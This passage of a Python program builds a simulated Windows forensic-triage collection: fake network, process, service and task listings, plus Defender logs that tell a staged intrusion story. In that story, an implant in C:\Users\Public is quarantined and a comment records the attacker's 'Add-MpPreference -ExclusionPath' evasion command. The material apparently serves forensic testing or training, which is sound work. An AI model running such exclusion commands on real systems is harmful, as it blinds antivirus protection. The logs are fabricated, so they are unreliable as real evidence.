            kv("IP Routing Enabled.", "No"), kv("WINS Proxy Enabled.", "No"), kv("DNS Suffix Search List.", "home.arpa"),
            "", "Ethernet adapter Ethernet:", "",
            kv("Connection-specific DNS Suffix ", "home.arpa"),
            kv("Description", "Intel(R) Ethernet Connection (7) I219-LM"),
            kv("Physical Address.", t["mac"]), kv("DHCP Enabled.", "No"), kv("Autoconfiguration Enabled", "Yes"),
            kv("Temporary IPv6 Address.", t["tmp6"] + "(Preferred) "),
            kv("Link-local IPv6 Address", t["ll6"] + "(Preferred) "),
            kv("IPv4 Address.", t["ip"] + "(Preferred) "), kv("Subnet Mask", "255.255.255.0"),
            kv("Default Gateway", t["gateway"]), kv("DHCPv6 IAID", str(iaid)),
            kv("DHCPv6 Client DUID.", "00-01-00-01-2C-8E-5F-31-" + t["mac"]),
            kv("DNS Servers", t["gateway"]), " " * 39 + "1.1.1.1", kv("NetBIOS over Tcpip.", "Enabled"),
            "", "Ethernet adapter Bluetooth Network Connection:", "",
            kv("Media State", "Media disconnected"), kv("Connection-specific DNS Suffix ", ""),
            kv("Description", "Bluetooth Device (Personal Area Network)"),
            kv("Physical Address.", t["mac"][:-2] + "7F"), kv("DHCP Enabled.", "Yes"),
            kv("Autoconfiguration Enabled", "Yes")]


def process_table_row(scn: Scenario, p: Proc) -> list[str]:
    cpu = scn.culture.number(p.cpu) if p.cpu is not None else ""
    return [str(p.handles), str(p.npm_kb), str(p.pm_kb), str(p.ws_kb), cpu, str(p.pid), str(p.session),
            p.name.rsplit(".exe", 1)[0]]


class CollectionWriter:
    """Writes one collection folder.  Method names follow DFIR-Script.ps1."""

    def __init__(self, scn: Scenario, root: Path, evtx_dir: Path | None = CORPUS_DIR, width: int = FORMAT_WIDTH):
        self.scn, self.root, self.width = scn, Path(root), width
        self.evtx_dir = evtx_dir
        self.pv = scn.pv
        fam = scn.family
        self.csv_dir = {"F6": "CSV Results (SIEM Import Data)", "F5": "CSV Results (SIEM Import Data)",
                        "F4": "CSV Results (SIEM Import Data)", "F3b": "CSV Results (SIEM Data)",
                        "F3a": "SIEMImport"}.get(fam)

    # -- helpers ---------------------------------------------------------------
    def p(self, rel: str) -> Path:
        return self.root.joinpath(*rel.split("\\"))

    def csv(self, name: str) -> Path | None:
        return self.p(f"{self.csv_dir}\\{name}") if self.csv_dir else None

    def fl(self, records: Iterable[Record]) -> list[str]:
        return format_list(records, self.width)

    def fl_objects(self, objects: Iterable[dict], keys: Sequence[str] | None = None) -> list[str]:
        return self.fl([[(k, self.pv.text(o.get(k))) for k in (keys or o.keys())] for o in objects])

    def at_least(self, family_order: str) -> bool:
        order = ["F1", "F3a", "F3b", "F4", "F5", "F6"]
        return order.index(self.scn.family) >= order.index(family_order)

    # -- DFIR-Script functions -------------------------------------------------
    def get_ip_info(self):
        view = ["IPAddress", "InterfaceIndex", "InterfaceAlias", "AddressFamily", "Type", "PrefixLength",
                "PrefixOrigin", "SuffixOrigin", "AddressState", "ValidLifetime", "PreferredLifetime",
                "SkipAsSource", "PolicyStore"]
        addrs = ip_addresses(self.scn)

        def shown(a, k):
            if k == "PolicyStore":
                return a["Store"]
            v = a[k]
            if isinstance(v, TimeSpan) and v.ticks == TimeSpan.MAX_TICKS:
                return "Infinite ([TimeSpan]::MaxValue)"
            return self.pv.text(v)
        write_u16(self.p("ipinfo.txt"), self.fl([[(k, shown(a, k)) for k in view] for a in addrs]))
        if self.scn.family == "F6":
            write_u16(self.p("ipconfig.txt"), ipconfig_lines(self.scn))
        if self.csv_dir:
            write_c8(self.csv("IPConfiguration.csv"), self.pv, addrs)

    def get_shadow_copies(self):
        copies = shadow_copies(self.scn)
        keys = [k for k in copies[0] if k not in ("CimClass", "CimInstanceProperties", "CimSystemProperties")]
        write_u16(self.p("ShadowCopies.txt"), self.fl_objects(copies, keys))
        if self.csv_dir:
            write_c8(self.csv("ShadowCopy.csv"), self.pv, copies)

    def get_open_connections(self):
        conns = tcp_connections(self.scn)
        cols = [Col("LocalAddress", 35), Col("LocalPort", 9), Col("RemoteAddress", 35), Col("RemotePort", 10),
                Col("State", 11), Col("AppliedSetting", 14), Col("OwningProcess", 13)]
        rows = [[c["LocalAddress"], str(c["LocalPort"]), c["RemoteAddress"], str(c["RemotePort"]), c["State"],
                 c["AppliedSetting"] or "", str(c["OwningProcess"])] for c in conns]
        write_u16(self.p("Connections\\OpenConnections.txt"), format_table(cols, rows, self.width))
        if self.csv_dir:
            write_c8(self.csv("OpenTCPConnections.csv"), self.pv, conns)

    def get_autorun_info(self):
        items = startup_commands(self.scn)
        write_u16(self.p("Persistence\\AutoRunInfo.txt"), self.fl_objects(items))
        if self.csv_dir:
            write_c8(self.csv("AutoRun.csv"), self.pv, items)
        if self.scn.family == "F6":                                  # f6e1594 and later (§6.5)
            base = "SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\"
            run = registry_item(_run_values(self.scn), base + "Run")
            runonce = registry_item(_runonce_values(self.scn), base + "RunOnce")
            txt = self.p("Persistence\\Win32RegRunKey.txt")
            write_u16(txt, self.fl_objects([runonce]))
            write_u16(txt, self.fl_objects([run]), append=True)     # Out-File -Append: no second BOM
            write_c8(self.csv("Win32RegRunKey.csv"), self.pv, [run, runonce])   # header from Run only

    def get_installed_drivers(self):
        lines = driverquery_lines(self.scn)
        write_u16(self.p("Persistence\\InstalledDrivers.txt"), lines)
        self._native_csv("Drivers.csv", lines)

    def get_active_users(self):
        lines = quser_lines(self.scn)
        write_u16(self.p("UserInformation\\ActiveUsers.txt"), lines)
        self._native_csv("ActiveUsers.csv", lines)

    def _native_csv(self, name: str, lines: list[str]):
        if not self.csv_dir:
            return
        if self.scn.family == "F3a":     # ConvertTo-Csv of strings: only their Length survives (§1.1)
            write_c8(self.csv(name), self.pv, [{"Length": len(line)} for line in lines])
        else:
            write_p8(self.csv(name), lines)

    def get_local_users(self):
        users = local_users(self.scn)
        cols = [Col("Name", 18), Col("Enabled", 7), Col("Description")]
        rows = [[u["Name"], self.pv.text(u["Enabled"]), u["Description"]] for u in users]
        write_u16(self.p("UserInformation\\LocalUsers.txt"), format_table(cols, rows, self.width))
        if self.csv_dir:
            write_c8(self.csv("LocalUsers.csv"), self.pv, users)

    def get_active_processes(self):
        scn = self.scn
        if scn.family == "F1":
            self._process_text_files()
            return
        listed = [p for p in scn.procs if p.path is not None]
        full = [{"Proc_Name": p.name, "Proc_Path": p.path, "Proc_CommandLine": p.cmd,
                 "Proc_ParentProcessId": p.ppid, "Proc_ProcessId": p.pid, "Proc_Hash": p.hash} for p in listed]
        unique, seen = [], set()
        for row in full:                                   # Select-Object Proc_Path, Proc_Hash -Unique
            key = (row["Proc_Path"], row["Proc_Hash"])
            if key not in seen:
                seen.add(key)
                unique.append({"Proc_Path": key[0], "Proc_Hash": key[1]})
        write_ca(self.p("ProcessInformation\\UniqueProcessHash.csv"), self.pv, unique)
        if self.csv_dir:
            write_ca(self.csv("Processes.csv"), self.pv, unique)
        write_ca(self.p("ProcessInformation\\ProcessList.csv"), self.pv, full)

    def _process_text_files(self):
        """F0/F1: four text renderings of the process list (§2.2)."""
        scn, pv, c = self.scn, self.pv, self.scn.culture
        procs = sorted(scn.procs, key=lambda p: (p.name.rsplit(".exe", 1)[0].lower(), p.pid))
        cols = [Col("Handles", 7, True), Col("NPM(K)", 7, True), Col("PM(K)", 8, True), Col("WS(K)", 10, True),
                Col("CPU(s)", 10, True), Col("Id", 6, True), Col("SI", 3, True), Col("ProcessName")]
        write_u16(self.p("ProcessInformation\\ProcessList.txt"),
                  format_table(cols, [process_table_row(scn, p) for p in procs], self.width))
        # -View priority: grouped by PriorityClass without sorting -> a header at every change
        groups: list[tuple[str, list]] = []
        for p in procs:
            label = f"   PriorityClass: {p.priority or ''}".rstrip()
            row = [p.name.rsplit(".exe", 1)[0], str(p.pid), str(p.handles), str(p.ws_kb * 1024)]
            if groups and groups[-1][0] == label:
                groups[-1][1].append(row)
            else:
                groups.append((label, [row]))
        pcols = [Col("ProcessName", 43), Col("Id", 6, True), Col("HandleCount", 13, True), Col("WorkingSet", 12, True)]
        write_u16(self.p("ProcessInformation\\ProcessPriorityList.txt"), format_grouped_table(pcols, groups, self.width))
        write_u16(self.p("ProcessInformation\\ProcessListDetailed.txt"),
                  self.fl([self._process_fl_star(p) for p in procs]))
        wmi = [[("Name", p.name), ("ProcessId", str(p.pid)), ("CommandLine", p.cmd or ""), ("Path", p.path or "")]
               for p in scn.procs]
        write_u16(self.p("ProcessInformation\\CommandlineInformation.txt"), self.fl(wmi))

    def _process_fl_star(self, p: Proc) -> list[tuple[str, str]]:
        """Get-Process | Format-List * (System.Diagnostics.Process + ETS, 5.1 order)."""
        c, acc = self.scn.culture, p.path is not None
        base = p.name.rsplit(".exe", 1)[0]
        ws, pm, vm = p.ws_kb * 1024, p.pm_kb * 1024, p.ws_kb * 1024 * 9 + 2203318222848
        tids = [p.pid + 8 + 4 * k for k in range(p.threads)]
        cpu = TimeSpan.seconds(p.cpu) if (acc and p.cpu is not None) else None
        mods = [f"System.Diagnostics.ProcessModule ({m})"
                for m in [p.name, "ntdll.dll", "KERNEL32.DLL", "KERNELBASE.dll", "msvcrt.dll"]]
        val = lambda v: self.pv.text(v)
        if_acc = lambda v: v if acc else None
        rows = [
            ("Name", base), ("Id", p.pid), ("PriorityClass", if_acc(p.priority)), ("FileVersion", if_acc(p.version)),
            ("HandleCount", p.handles), ("WorkingSet", ws), ("PagedMemorySize", pm), ("PrivateMemorySize", pm),
            ("VirtualMemorySize", vm % 2**31), ("TotalProcessorTime", if_acc(cpu)), ("SI", p.session),
            ("Handles", p.handles), ("VM", vm), ("WS", ws), ("PM", pm), ("NPM", p.npm_kb * 1024),
            ("Path", p.path), ("Company", if_acc(p.company)), ("CPU", c.double(p.cpu) if cpu else None),
            ("ProductVersion", if_acc(p.version)), ("Description", if_acc(p.description)),
            ("Product", if_acc("Microsoft® Windows® Operating System" if p.company == "Microsoft Corporation" else p.description)),
            ("__NounName", "Process"), ("BasePriority", 8), ("ExitCode", None), ("HasExited", if_acc(False)),
            ("ExitTime", None), ("Handle", if_acc(2000 + p.pid % 1000)),
            ("SafeHandle", if_acc("Microsoft.Win32.SafeHandles.SafeProcessHandle")), ("MachineName", "."),
            ("MainWindowHandle", 0), ("MainWindowTitle", ""),
            ("MainModule", if_acc(mods[0])), ("MaxWorkingSet", if_acc(1413120)), ("MinWorkingSet", if_acc(204800)),
            ("Modules", Arr(mods if acc else [])), ("NonpagedSystemMemorySize", p.npm_kb * 1024),
            ("NonpagedSystemMemorySize64", p.npm_kb * 1024), ("PagedMemorySize64", pm),
            ("PagedSystemMemorySize", p.npm_kb * 9000), ("PagedSystemMemorySize64", p.npm_kb * 9000),
            ("PeakPagedMemorySize", pm + 40960), ("PeakPagedMemorySize64", pm + 40960),
            ("PeakWorkingSet", ws + 81920), ("PeakWorkingSet64", ws + 81920),
            ("PeakVirtualMemorySize", (vm + 4194304) % 2**31), ("PeakVirtualMemorySize64", vm + 4194304),
            ("PriorityBoostEnabled", if_acc(True)), ("PrivateMemorySize64", pm),
            ("PrivilegedProcessorTime", if_acc(cpu)), ("ProcessName", base),
            ("ProcessorAffinity", if_acc(255)), ("Responding", True), ("SessionId", p.session),
            ("StartInfo", "System.Diagnostics.ProcessStartInfo"), ("StartTime", if_acc(p.start)),
            ("SynchronizingObject", None), ("Threads", Arr(tids)),
            ("UserProcessorTime", if_acc(TimeSpan(0) if cpu else None)), ("VirtualMemorySize64", vm),
            ("EnableRaisingEvents", False), ("StandardInput", None), ("StandardOutput", None),
            ("StandardError", None), ("WorkingSet64", ws), ("Site", None), ("Container", None)]
        return [(k, val(v)) for k, v in rows]

    def get_security_event_count(self):
        events = security_events_newest_first(self.scn)
        counts: dict[int, int] = {}
        for e in events:                                     # Group-Object: first-occurrence order
            counts[e["EventID"]] = counts.get(e["EventID"], 0) + 1
        ranked = sorted(counts.items(), key=lambda kv: -kv[1])
        write_u16(self.p("SecurityEvents\\EventCount.txt"),
                  format_table([Col("Count", 5, True), Col("Name")], [[str(n), str(k)] for k, n in ranked], self.width))

    def get_security_events(self):
        events = security_events_newest_first(self.scn)
        write_u16(self.p("SecurityEvents\\SecurityEvents.txt"), self.fl_objects(events))
        if self.csv_dir:
            write_c8(self.csv("SecurityEvents.csv"), self.pv, events)

    def get_event_viewer_files(self):
        target = self.p("Event Viewer")
        target.mkdir(parents=True, exist_ok=True)
        if not self.evtx_dir or not Path(self.evtx_dir).is_dir():
            return
        for name, rel in EVTX_COPIES.items():
            src = Path(self.evtx_dir) / rel
            if src.is_file():
                shutil.copyfile(src, target / name)

    def get_office_connections(self):
        """No S-1-5-21 SID (Entra user or SYSTEM): the HKCU branch with the unquoted
        `Server Cache` path fails (§6.11)."""
        write_empty(self.p("Connections\\ConnectionsMadeByOffice.txt"))
        if self.csv_dir and self.scn.family != "F6":     # 2.2.4: try/catch -> CSV never created
            write_empty(self.csv("OfficeConnections.csv"))

    def get_network_shares(self):
        txt = self.p("Connections\\NetworkShares.txt")
        if self.scn.context != "user":                   # SYSTEM's own HKCU has no MountPoints2 entries
            write_empty(txt)
            if self.csv_dir and self.at_least("F3b"):
                write_empty(self.csv("NetworkShares.csv"))
            return
        hive = r"HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\MountPoints2"
        keys, rows = [], []
        for name, values, subkeys in mount_points(self.scn):
            w = max(len(v) for v, _ in values)
            rows.append([name, "\n".join(f"{v.ljust(w)} : {d}" for v, d in values)])
            keys.append({"Property": Arr([v for v, _ in values]),
                         "PSPath": f"Microsoft.PowerShell.Core\\Registry::{hive}\\{name}",
                         "PSParentPath": f"Microsoft.PowerShell.Core\\Registry::{hive}", "PSChildName": name,
                         "PSDrive": "HKCU", "PSProvider": "Microsoft.PowerShell.Core\\Registry", "PSIsContainer": True,
                         "SubKeyCount": subkeys, "View": "Default",
                         "Handle": "Microsoft.Win32.SafeHandles.SafeRegistryHandle", "ValueCount": len(values),
                         "Name": f"{hive}\\{name}"})
        write_u16(txt, format_table([Col("Name", 30), Col("Property")], rows, self.width,
                                    group_label="    Hive: " + hive))
        if self.csv_dir and self.at_least("F3b"):      # NetworkShares.csv from 62e5918
            write_c8(self.csv("NetworkShares.csv"), self.pv, keys)

    def get_smb_shares(self):
        shares = smb_shares(self.scn)
        cols = [Col("Name", 29), Col("ScopeName", 29), Col("Path", 29), Col("Description")]
        write_u16(self.p("Connections\\SMBShares.txt"),
                  format_table(cols, [[s["Name"], s["ScopeName"], s["Path"], s["Description"]] for s in shares], self.width))
        if self.csv_dir:
            write_c8(self.csv("SMBShares.csv"), self.pv, shares)

    def get_rdp_sessions(self):
        lines = qwinsta_lines(self.scn)
        write_u16(self.p("Connections\\RDPSessions.txt"), lines)
        if self.csv_dir and self.at_least("F3b"):
            write_p8(self.csv("RDPSessions.csv"), lines)

    def get_remotely_opened_files(self):
        lines = openfiles_lines(self.scn)
        write_u16(self.p("Connections\\RemotelyOpenedFiles.txt"), lines)
        if self.csv_dir and self.at_least("F3b"):
            write_p8(self.csv("RemotelyOpenedFiles.csv"), lines)

    def get_dns_cache(self):
        entries = dns_entries(self.scn)
        view = [[("Entry", e["Entry"]), ("RecordName", e["Name"] or ""), ("RecordType", DNS_TYPE[e["Type"]]),
                 ("Status", DNS_STATUS[e["Status"]]), ("Section", DNS_SECTION.get(e["Section"], "")),
                 ("TimeToLive", str(e["TimeToLive"])), ("DataLength", str(e["DataLength"])), ("Data", e["Data"] or "")]
                for e in entries]
        write_u16(self.p("Connections\\DNSCache.txt"), self.fl(view))
        if self.csv_dir:
            write_c8(self.csv("DNSCache.csv"), self.pv, entries)

    def get_powershell_history_current_user(self):
        """`history` of a non-interactive script host is empty -> 0-byte files (§6.14)."""
        if self.at_least("F5"):
            write_empty(self.p("PowerShellHistory\\PowershellHistoryCurrentUser.txt"))
        else:
            write_empty(self.p("PowershellHistory.txt"))
        if self.csv_dir:
            write_empty(self.csv("PowerShellHistory.csv"))

    def get_powershell_console_history_all_users(self):
        for user, items in ps_histories(self.scn).items():
            path = _mkparent(self.p(f"PowerShellHistory\\{user}.Name\\ConsoleHost_history.txt"))
            path.write_bytes(psreadline_bytes(items))

    def get_recently_installed_software(self):
        events = msi_events(self.scn)
        write_u16(self.p("Applications\\RecentlyInstalledSoftwareEventLogs.txt"), self.fl_objects(events))
        if self.csv_dir:
            write_c8(self.csv("InstalledSoftware.csv"), self.pv, events)

    def get_running_services(self):
        services = running_services(self.scn)
        view = ["Name", "DisplayName", "Status", "DependentServices", "ServicesDependedOn", "CanPauseAndContinue",
                "CanShutdown", "CanStop", "ServiceType"]
        if self.at_least("F4"):
            txt = "Services\\RunningServices.txt"
        else:                               # 479cd3b..80b8a70: overwrites the MSI text file (§2.2)
            txt = "Applications\\RecentlyInstalledSoftwareEventLogs.txt"
        write_u16(self.p(txt), self.fl_objects(services, view))
        if self.csv_dir and self.scn.family != "F3a":
            write_c8(self.csv("RunningServices.csv"), self.pv, services)

    def get_scheduled_tasks(self):
        pairs = scheduled_tasks(self.scn)
        tasks = [task for task, _ in pairs]
        keys = [k for k in tasks[0] if k not in ("CimClass", "CimInstanceProperties", "CimSystemProperties")]
        write_u16(self.p("ScheduledTask\\ScheduledTasksList.txt"), self.fl_objects(tasks, keys))
        if self.csv_dir and self.scn.family != "F3a":
            write_c8(self.csv("ScheduledTasks.csv"), self.pv, tasks)

    def get_scheduled_tasks_run_info(self):
        infos = [info for _, info in scheduled_tasks(self.scn)]
        keys = ["LastRunTime", "LastTaskResult", "NextRunTime", "NumberOfMissedRuns", "TaskName", "TaskPath",
                "PSComputerName"]
        write_u16(self.p("ScheduledTask\\ScheduledTasksListRunInfo.txt"), self.fl_objects(infos, keys))
        if self.csv_dir and self.scn.family != "F3a":
            write_c8(self.csv("ScheduledTasksRunInfo.csv"), self.pv, infos)

    def get_connected_devices(self):
        devices = pnp_devices(self.scn)
        write_ca(self.p("ConnectedDevices\\ConnectedDevices.csv"), self.pv, devices)
        if self.csv_dir:                     # F3a/early F3b: the PnP CSV is misnamed RunningServices.csv
            write_c8(self.csv("RunningServices.csv" if self.scn.family == "F3a" else "ConnectedDevices.csv"),
                     self.pv, devices)

    def get_browser_files(self):
        write_chromium_profile(self.scn, self.p("Browsers\\Chromium\\Google\\Chrome\\Default"), "chrome")
        write_chromium_profile(self.scn, self.p("Browsers\\Chromium\\Microsoft\\Edge\\Default"), "edge")
        write_firefox_profile(self.scn, self.p("Browsers\\Firefox\\x7k2m9qa.default-release"))

    def get_mplogs(self):
        folder = "MPLogs\\Support" if self.scn.family in ("F3b", "F4") else "MPLogs"
        stamp = self.scn.t["mplog_start"].strftime("%Y%m%d-%H%M%S")
        write_u16(self.p(f"{folder}\\MPLog-{stamp}.log"), mplog_lines(self.scn))
        write_u16(self.p(f"{folder}\\MPDetection-{stamp}.log"), mpdetection_lines(self.scn))
        if folder.endswith("Support"):       # 1a77552..887bb0a: the whole folder, recursively
            blob = bytes(self.scn.rng("wpp").getrandbits(8) for _ in range(512))
            _mkparent(self.p(f"{folder}\\MpWppTracing-{stamp}-00000003-ffffffff.bin")).write_bytes(blob)

    def get_defender_exclusions(self):
        excl = defender_exclusions(self.scn)
        for name, items in excl.items():
            write_u16(self.p(f"DefenderExclusions\\{name}.txt"), items)
        if self.csv_dir:
            combined = ["\n".join(excl[k]) for k in ("ExclusionPath", "ExclusionExtension", "ExclusionIpAddress",
                                                     "ExclusionProcess")]
            write_p8(self.csv("DefenderExclusions.csv"), [part for s in combined for part in s.split("\n")])

    def rewrite_datasource(self):
        """F3a: `Import-Csv | Add-Member DataSource | Export-Csv` over every CSV (ASCII,
        every field quoted because Import-Csv turns nulls into empty strings)."""
        import csv as _csv
        folder = self.p(self.csv_dir)
        for path in sorted(folder.glob("*.csv")):
            raw = path.read_bytes()
            if not raw:
                continue
            rows = list(_csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
            header, body = rows[0], rows[1:]
            objects = [{**dict(zip(header, r)), "DataSource": path.stem} for r in body]
            write_ca(path, self.pv, objects, header + ["DataSource"])


# -----------------------------------------------------------------------------
# Defender support logs (§9.2): UTF-16LE with BOM, UTC timestamps with 'Z'
# -----------------------------------------------------------------------------

def _z(scn: Scenario, local: dt.datetime, ms: int = 0) -> str:
    u = scn.utc(local)
    return u.strftime("%Y-%m-%dT%H:%M:%S") + f".{ms:03d}Z"


def _rtp_perf_block(paths: list[str]) -> list[str]:
    return (["****************************RTP Perf Log***************************", "RTP Start:N/A",
             "Last Perf:(null)", "First RTP Scan:N/A", "Plugin States:  AV:2  AS:2  RTP:2  OA:2  BM:2",
             "Process Exclusions:", "Path Exclusions:"] + [f"  {p}" for p in paths] +
            ["Ext Exclusions:", "Worker Threads:", "  AM:34", "  Async:8", "Cache Flushes:", "  RTP:0",
             "**************************END RTP Perf Log*************************"])


def mplog_lines(scn: Scenario) -> list[str]:
    t, rng = scn.t, scn.rng("mplog")
    start = t["mplog_start"]
    plat = defender_platform(scn.date.year)
    build = "26100.1.amd64fre.ge_release.240331-1435" if scn.date.year >= 2025 else "22621.1.amd64fre.ni_release.220506-1250"
    u = scn.utc(start)
    out = ["", "-" * 80, "Microsoft Defender Antivirus (77BDAF73-B396-481F-9042-AD358843EC24) Service Log",
           f"Started On {start:%m-%d-%Y %H:%M:%S}", "*" * 60,
           f"Current time: {u:%m/%d/%Y %H:%M:%S}.417884100 UTC (27153 ms since boot)",
           f"{_z(scn, start, 418)} [HybridMode] MpIsWldpDefenderHybridPolicyEnabled() returns 0, SavedHybridModePolcy: 0",
           f"{_z(scn, start, 418)} ProductId: 1, ProductFeature: 0, LaunchedProtected: 3, IsWcos: 0, IsContainerOs: 0, "
           "DirtyShutdownDetected: 0, PassiveRemediation: 0, IsHybridModePolicyEnabled: 0",
           f"{_z(scn, start, 433)} OS Build/Branch info: {build}",
           f"{_z(scn, start, 433)} [PlatUpd] Service launched successfully from: "
           f"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\{plat}",
           f"{_z(scn, start, 449)} [Exclusion] C:\\ProgramData\\Veeam -> \\Device\\HarddiskVolume3\\ProgramData\\Veeam",
           f"{_z(scn, start + dt.timedelta(seconds=2), 105)} "] + _rtp_perf_block([r"C:\ProgramData\Veeam"])
    # quiet days: performance and mini-filter lines
    when = start + dt.timedelta(hours=5)
    images = [("svchost.exe", 1212, r"Windows\System32\config\systemprofile\AppData\Local\Microsoft\Windows\DeliveryOptimization\State\dosvcState.dat"),
              ("MsMpEng.exe", 3012, r"ProgramData\Microsoft\Windows Defender\Scans\History\CacheManager\D1E7F1A4-0000-0000-0000-000000000000-0.bin"),
              ("chrome.exe", 8224, rf"Users\{scn.user}\AppData\Local\Google\Chrome\User Data\Default\History-journal"),
              ("OneDrive.exe", 6120, rf"Users\{scn.user}\AppData\Local\Microsoft\OneDrive\logs\Personal\SyncEngine.odl")]
    while when < t["download1"] - dt.timedelta(hours=3):
        name, pid, f = rng.choice(images)
        tt = rng.randint(900, 9000)
        out.append(f"{_z(scn, when, rng.randint(0, 999))} ProcessImageName: {name}, Pid: {pid}, TotalTime: {tt}, "
                   f"Count: {rng.randint(3, 140)}, MaxTime: {rng.randint(50, tt)}, MaxTimeFile: "
                   f"\\Device\\HarddiskVolume3\\{f}, EstimatedImpact: {rng.randint(1, 100)}%")
        if rng.random() < 0.3:
            out.append(f"{_z(scn, when + dt.timedelta(seconds=41), rng.randint(0, 999))} [Mini-filter] Unsuccessful scan "
                       f"status: \\Device\\HarddiskVolume3\\Windows\\Temp\\MpCmdRun.log. Process: (unknown), Status: "
                       f"0xc000004b, State: 0, ScanRequest #{rng.randint(1000, 40000)}, FileId: 0x{rng.getrandbits(44):x}, "
                       "Reason: OnClose, IoStatusBlockForNewFile: 0x2, DeviceCharacteristics: 0x100")
        when += dt.timedelta(hours=rng.randint(9, 30), minutes=rng.randint(0, 59), seconds=rng.randint(0, 59))
    # the detection of the first download, then the quarantine
    det, q = t["detection"], t["quarantine"]
    scan_id = "{" + fake_guid(rng, upper=True) + "}"
    out += [f"{_z(scn, det, 297)} [Mini-filter] OpenWithoutRead notification (4421, 10006, "
            f"\\Device\\HarddiskVolume3\\Users\\Public\\Libraries\\RuntimeBroker.exe) sent successfully.",
            "Begin Resource Scan", f"Scan ID:{scan_id}", "Scan Source:3",
            f"Start Time:{det:%m-%d-%Y %H:%M:%S}", f"End Time:{det:%m-%d-%Y %H:%M:%S}", "Explicit resource to scan",
            "Resource Schema:file", f"Resource Path:{IMPLANT_PATH}", "Result Count:1", f"Threat Name:{THREAT_NAME}",
            "ID:2147851286", "Severity:5", "Number of Resources:1", "Resource Schema:file",
            f"Resource Path:{IMPLANT_PATH}", "Extended Info - SigSeq:0000a3f21c0be871",
            f"Extended Info - SigSha:{fake_sha1('sig' + THREAT_NAME).lower()}", "End Scan", "*" * 60,
            f"{_z(scn, det, 331)} DETECTIONEVENT MPSOURCE_REALTIME {THREAT_NAME} file:{IMPLANT_PATH};",
            f"{_z(scn, det, 331)} DETECTION_ADD#1 {THREAT_NAME} file:{IMPLANT_PATH}",
            f"{_z(scn, det, 332)} [RoutineClean] New detection added. Routine cleaning timer scheduled to fire in "
            "4984 milliseconds. 1 detections to be cleaned.",
            f"{_z(scn, q, 902)} DETECTION_CLEANEVENT MPSOURCE_REALTIME MP_THREAT_ACTION_QUARANTINE 0 {THREAT_NAME} "
            f"file:{IMPLANT_PATH};",
            "Beginning threat actions", f"Start time:{q:%m-%d-%Y %H:%M:%S}", f"Threat Name:{THREAT_NAME}",
            "Threat ID:2147851286", "Action:quarantine", "Resource action complete:Quarantine", "Schema:file",
            f"Path:\\\\?\\{IMPLANT_PATH}", "Threat ID:2147851286", "Resource refcount:1", "Result:0",
            f"File to act on SHA1:{fake_sha1(IMPLANT_PATH)}", f"File owner:{scn.host}\\{BRUTE_USER}",
            "File cleaned/removed successfully", "Finished threat actions",
            f"{_z(scn, q, 918)} [RoutineClean] Routine cleaning completed successfully on 1 detections.",
            # Add-MpPreference -ExclusionPath C:\Users\Public
            f"{_z(scn, t['exclusion'] + dt.timedelta(seconds=1), 118)} [Exclusion] {DEFENDER_EXCLUSION} -> "
            "\\Device\\HarddiskVolume3\\Users\\Public",
            f"{_z(scn, t['exclusion'] + dt.timedelta(seconds=3), 640)} "]
    out += _rtp_perf_block([r"C:\ProgramData\Veeam", DEFENDER_EXCLUSION])
    out += [f"{_z(scn, scn.collect - dt.timedelta(seconds=5), 774)} ProcessImageName: powershell.exe, Pid: 9376, "
            f"TotalTime: 2641, Count: 311, MaxTime: 94, MaxTimeFile: \\Device\\HarddiskVolume3\\Windows\\System32\\"
            "WindowsPowerShell\\v1.0\\Modules\\Microsoft.PowerShell.Archive\\Microsoft.PowerShell.Archive.psm1, "
            "EstimatedImpact: 8%"]
    return out


def mpdetection_lines(scn: Scenario) -> list[str]:
    t, start = scn.t, scn.t["mplog_start"]
    plat = defender_platform(scn.date.year).rsplit("-", 1)[0]
    return [f"{_z(scn, start, 990)} Service started - Microsoft Defender Antivirus (77BDAF73-B396-481F-9042-AD358843EC24)",
            f"{_z(scn, start + dt.timedelta(seconds=3), 105)} Version: Product {plat} Service {plat} Engine 1.1.25080.4 "
            "AS 1.437.211.0 AV 1.437.211.0",
            f"{_z(scn, t['detection'], 331)} DETECTION {THREAT_NAME} file:{IMPLANT_PATH}",
            f"{_z(scn, t['quarantine'], 902)} DETECTION_CLEANEVENT MPSOURCE_REALTIME MP_THREAT_ACTION_QUARANTINE 0 "
            f"{THREAT_NAME} file:{IMPLANT_PATH}"]


# =============================================================================
# 6. Browser databases (real SQLite files)
# =============================================================================

WEBKIT_EPOCH = dt.datetime(1601, 1, 1)
UNIX_EPOCH = dt.datetime(1970, 1, 1)


def webkit_us(utc: dt.datetime) -> int:
    """Chrome time: microseconds since 1601-01-01 UTC (§9.4)."""
    return (utc - WEBKIT_EPOCH) // dt.timedelta(microseconds=1)


def prtime(utc: dt.datetime) -> int:
    """Firefox PRTime: microseconds since 1970-01-01 UTC (§9.5)."""
    return (utc - UNIX_EPOCH) // dt.timedelta(microseconds=1)


CHROME_SCHEMA = """
CREATE TABLE meta(key LONGVARCHAR NOT NULL UNIQUE PRIMARY KEY, value LONGVARCHAR);
CREATE TABLE urls(id INTEGER PRIMARY KEY AUTOINCREMENT,url LONGVARCHAR,title LONGVARCHAR,visit_count INTEGER DEFAULT 0 NOT NULL,typed_count INTEGER DEFAULT 0 NOT NULL,last_visit_time INTEGER NOT NULL,hidden INTEGER DEFAULT 0 NOT NULL);
CREATE TABLE visits(id INTEGER PRIMARY KEY AUTOINCREMENT,url INTEGER NOT NULL,visit_time INTEGER NOT NULL,from_visit INTEGER,external_referrer_url TEXT,transition INTEGER DEFAULT 0 NOT NULL,segment_id INTEGER,visit_duration INTEGER DEFAULT 0 NOT NULL,incremented_omnibox_typed_score BOOLEAN DEFAULT FALSE NOT NULL,opener_visit INTEGER,originator_cache_guid TEXT,originator_visit_id INTEGER,originator_from_visit INTEGER,originator_opener_visit INTEGER,is_known_to_sync BOOLEAN DEFAULT FALSE NOT NULL,consider_for_ntp_most_visited BOOLEAN DEFAULT FALSE NOT NULL,visited_link_id INTEGER DEFAULT 0 NOT NULL,app_id TEXT);
CREATE TABLE visit_source(id INTEGER PRIMARY KEY,source INTEGER NOT NULL);
CREATE INDEX visits_url_index ON visits (url);
CREATE INDEX visits_from_index ON visits (from_visit);
CREATE INDEX visits_time_index ON visits (visit_time);
CREATE INDEX visits_originator_id_index ON visits (originator_visit_id);
